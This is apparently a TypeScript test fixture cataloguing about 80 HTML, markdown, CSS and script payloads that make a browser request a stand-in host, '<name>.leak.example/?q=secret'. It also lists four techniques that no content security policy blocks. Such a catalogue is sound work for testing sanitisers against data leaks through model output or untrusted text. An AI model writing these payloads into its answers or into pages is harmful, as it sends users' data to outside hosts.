/** What a hostile answer holds to make a browser ask another host; the host is named after it. */
export type Leak = {
  name: string;
  /** What a model, a tool or a stranger writes. */
  text: string;
  /** What a renderer without a sanitiser makes of it. */
  html: string;
  /** Why no content security policy stops it; absent where one does. */
  beyondPolicy?: string;
};

const hostOf = (name: string) => `${name}.leak.example`;
const addressOf = (name: string) => `http://${hostOf(name)}/?q=secret`;
type Write = (address: string, host: string) => string;

const image: Write = (address) => `<img src="${address}">`;

const markdown: Record<string, Write> = {
  "md-image": (address) => `![](${address})`,
  "md-image-title": (address) => `![chart](${address} "a title")`,
  "md-image-angle": (address) => `![chart](<${address}>)`,
  "md-image-entity": (address) => `![chart](${address.replace("h", "&#104;")})`,
  "md-image-relative": (address) => `![chart](${address.replace("http:", "")})`,
  "md-image-reference": (address) => `![chart][leak]\n\n[leak]: ${address}`,
  "md-image-shortcut": (address) => `![leaked]\n\n[leaked]: ${address}`,
  "md-image-in-link": (address) => `[![chart](${address})](${address})`,
  "md-image-in-table": (address) => `| a |\n|---|\n| ![](${address}) |`,
  "md-image-in-list": (address) => `- [ ] ![](${address})`,
  "md-image-in-heading": (address) => `# Title ![](${address})`,
  "md-image-in-quote": (address) => `> > ![](${address})`,
  "md-image-in-footnote": (address) => `See[^1].\n\n[^1]: ![](${address})`,
};

const loading: Record<string, Write> = {
  "img-src": image,
  "img-case": (address) => `<ImG/sRc=${address}>`,
  "img-srcset": (address) => `<img srcset="${address} 1x">`,
  "img-lazy": (address) => `<img loading="lazy" width="9" height="9" src="${address}">`,
  "img-cors": (address) => `<img crossorigin referrerpolicy="unsafe-url" src="${address}">`,
  picture: (address) => `<picture><source srcset="${address}"><img></picture>`,
  "input-image": (address) => `<input type="image" src="${address}">`,
  "video-src": (address) => `<video preload="auto" src="${address}"></video>`,
  "video-poster": (address) => `<video poster="${address}"></video>`,
  "video-source": (address) => `<video preload="auto"><source src="${address}"></video>`,
  "audio-src": (address) => `<audio preload="auto" src="${address}"></audio>`,
  "audio-source": (address) => `<audio preload="auto"><source src="${address}"></audio>`,
  embed: (address) => `<embed src="${address}">`,
  "embed-svg": (address) => `<embed type="image/svg+xml" src="${address}">`,
  object: (address) => `<object data="${address}"></object>`,
  "object-html": (address) => `<object type="text/html" data="${address}"></object>`,
  "iframe-srcdoc": (address) => `<iframe srcdoc="&lt;img src='${address}'&gt;"></iframe>`,
  "iframe-data": (address) => `<iframe src="data:text/html,<img src='${address}'>"></iframe>`,
  "iframe-javascript": (address) =>
    `<iframe src="javascript:'&lt;img src=&quot;${address}&quot;&gt;'"></iframe>`,
  "body-background": (address) => `<body background="${address}">`,
  "table-background": (address) => `<table background="${address}"><tr><td>x</table>`,
  "base-image": (_address, host) => `<base href="http://${host}/"><img src="relative">`,
  "svg-image": (address) => `<svg><image href="${address}" width="9" height="9"/></svg>`,
  "svg-xlink": (address) => `<svg><image xlink:href="${address}" width="9" height="9"/></svg>`,
  "svg-fe-image": (address) =>
    `<svg><filter id="f"><feImage href="${address}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "svg-script": (address) => `<svg><script href="${address}"></script></svg>`,
  "script-src": (address) => `<script src="${address}"></script>`,
  "script-module": (address) => `<script type="module" src="${address}"></script>`,
};

const linking: Record<string, Write> = {
  "link-stylesheet": (address) => `<link rel="stylesheet" href="${address}">`,
  "link-print": (address) => `<link rel="stylesheet" media="print" href="${address}">`,
  "link-alternate": (address) => `<link rel="alternate stylesheet" title="x" href="${address}">`,
  "link-preload-image": (address) => `<link rel="preload" as="image" href="${address}">`,
  "link-preload-script": (address) => `<link rel="preload" as="script" href="${address}">`,
  "link-preload-style": (address) => `<link rel="preload" as="style" href="${address}">`,
  "link-preload-font": (address) => `<link rel="preload" as="font" crossorigin href="${address}">`,
  "link-preload-fetch": (address) =>
    `<link rel="preload" as="fetch" crossorigin href="${address}">`,
  "link-imagesrcset": (address) => `<link rel="preload" as="image" imagesrcset="${address}">`,
  "link-modulepreload": (address) => `<link rel="modulepreload" href="${address}">`,
  "link-prefetch": (address) => `<link rel="prefetch" href="${address}">`,
};

const styling: Record<string, Write> = {
  "css-import": (address) => `<style>@import "${address}";</style>`,
  "css-import-url": (address) => `<style>@import url(${address}) screen;</style>`,
  "css-background": (address) => `<style>body{background:url("${address}")}</style>`,
  "css-image-set": (address) => `<style>body{background:image-set("${address}" 1x)}</style>`,
  "css-list": (address) => `<style>ul{list-style:url("${address}")}</style><ul><li>x</ul>`,
  "css-content": (address) => `<style>body::before{content:url("${address}")}</style>`,
  "css-border": (address) =>
    `<style>p{border:9px solid;border-image:url("${address}") 9}</style><p>x</p>`,
  "css-mask": (address) => `<style>p{mask:url("${address}")}</style><p>x</p>`,
  "css-shape": (address) => `<style>i{float:left;shape-outside:url("${address}")}</style><i>x</i>`,
  "css-font": (address) =>
    `<style>@font-face{font-family:x;src:url("${address}")}p{font-family:x}</style><p>x</p>`,
  "css-selector": (address) =>
    `<input value="secret"><style>input[value^=s]{background:url("${address}")}</style>`,
  "css-variable": (address) =>
    `<style>p{--x:url("${address}");background:var(--x)}</style><p>x</p>`,
  "style-attribute": (address) => `<p style="background:url('${address}')">x</p>`,
  "svg-style": (address) => `<svg><style>@import "${address}";</style></svg>`,
};

const scripting: Record<string, Write> = {
  "script-fetch": (address) => `<script>fetch("${address}")</script>`,
  "script-request": (address) =>
    `<script>x=new XMLHttpRequest;x.open("GET","${address}");x.send()</script>`,
  "script-beacon": (address) => `<script>navigator.sendBeacon("${address}")</script>`,
  "script-image": (address) => `<script>new Image().src="${address}"</script>`,
  "script-socket": (_address, host) => `<script>new WebSocket("ws://${host}/")</script>`,
  "script-events": (address) => `<script>new EventSource("${address}")</script>`,
  "script-import": (address) => `<script>import("${address}")</script>`,
  "script-location": (address) => `<script>location="${address}"</script>`,
  "onerror-fetch": (address) => `<img src="x:" onerror="fetch('${address}')">`,
  "onload-image": (address) => `<svg onload="new Image().src='${address}'">`,
};

const unstoppable: Record<string, { write: Write; reason: string }> = {
  "meta-refresh": {
    write: (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
    reason: "a page may always be left, and no directive says where to",
  },
  iframe: {
    write: (address) => `<iframe src="${address}"></iframe>`,
    reason: "the connection is opened before the policy is asked; nothing is sent on it",
  },
  "link-preconnect": {
    write: (address) => `<link rel="preconnect" href="${address}">`,
    reason: "opening a connection is no fetch",
  },
  "link-dns-prefetch": {
    write: (address) => `<link rel="dns-prefetch" href="${address}">`,
    reason: "looking up a name is no fetch",
  },
};

const written = (name: string, write: Write) => write(addressOf(name), hostOf(name));
const asWritten = (group: Record<string, Write>): Leak[] =>
  Object.entries(group).map(([name, write]) => {
    const html = written(name, write);
    return { name, text: html, html };
  });

/** Every way known here to make a browser ask another host without a person's doing. */
export const leaks: readonly Leak[] = [
  ...Object.entries(markdown).map(([name, write]) => ({
    name,
    text: written(name, write),
    html: written(name, image),
  })),
  ...[loading, linking, styling, scripting].flatMap(asWritten),
  ...Object.entries(unstoppable).map(([name, { write, reason }]) => {
    const html = written(name, write);
    return { name, text: html, html, beyondPolicy: reason };
  }),
];
